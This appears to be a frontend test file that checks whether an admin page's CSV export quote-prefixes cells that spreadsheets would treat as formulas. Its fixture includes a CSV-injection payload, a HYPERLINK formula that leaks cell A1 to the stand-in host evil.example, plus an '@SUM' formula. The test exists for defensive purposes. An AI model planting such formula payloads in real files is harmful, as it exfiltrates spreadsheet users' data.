import { screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { graphql } from 'msw/graphql';
import { HttpResponse } from 'msw/http';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { mockScenario } from '../../../mocks/handlers';
import { mockServer } from '../../../mocks/node';
import { renderApp } from '../../../test/render-app';

/** Issue 27 item 5: the program list's CSV export neutralises spreadsheet formulas in every cell. */
const api = graphql.link('*/graphql');
const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';

function programList(items: Record<string, unknown>[]) {
  return api.query('ProgramList', () =>
    HttpResponse.json({
      data: {
        adminPrograms: {
          __typename: 'ProgramPage',
          totalCount: items.length,
          page: 1,
          pageSize: 100,
          items: items.map((item) => ({ __typename: 'ProgramRow', ...item })),
        },
      },
    }),
  );
}

const row = {
  id: '1',
  lenderId: '1',
  lenderName: '@SUM(1+1)',
  lenderStatus: 'active',
  name: HOSTILE,
  product: 'revenue-based-financing',
  status: 'active',
  currentVersion: 1,
  criteria: { schema: 1, product: 'revenue-based-financing', amount: { minCents: 1_000_000, maxCents: 25_000_000 } },
  hasDraft: false,
  pausedReason: null,
  version: 1,
  updatedAt: '2026-11-20T12:00:00.000Z',
  publishedBy: 'admin',
  publishedAt: '2026-11-20T12:00:00.000Z',
};

let blobs: Blob[] = [];
beforeEach(() => {
  mockScenario.signInAs('admin');
  blobs = [];
  // jsdom has no object URLs: keep what the export hands over, and make the download click a no-op.
  URL.createObjectURL = vi.fn((blob: Blob) => {
    blobs.push(blob);
    return 'blob:programs';
  });
  URL.revokeObjectURL = vi.fn();
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
});
afterEach(() => vi.restoreAllMocks());

/** jsdom's Blob has no text(): read it as a browser does. */
const textOf = (blob: Blob) =>
  new Promise<string>((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(String(reader.result));
    reader.onerror = () => reject(reader.error);
    reader.readAsText(blob);
  });

describe('/admin/funding-matrix/view Export CSV', { timeout: 20_000 }, () => {
  it('writes a cell that would be a formula as text, quote-prefixed', async () => {
    mockServer.use(programList([row]));
    renderApp('/admin/funding-matrix/view');
    await screen.findByText(HOSTILE, {}, { timeout: 5000 });
    await userEvent.setup().click(screen.getByRole('button', { name: 'Export CSV' }));
    expect(blobs).toHaveLength(1);
    const [header, line] = (await textOf(blobs[0]!)).split('\r\n');
    expect(header).toMatch(/^Lender,Program,Product,/);
    // The lender and the program name, each one cell: a quote first, then the text (CSV-quoted for its commas and quotes).
    expect(line).toMatch(
      /^'@SUM\(1\+1\),"'=HYPERLINK\(""https:\/\/evil\.example\/\?leak=""&A1,""Click for details""\)",/,
    );
  });
});
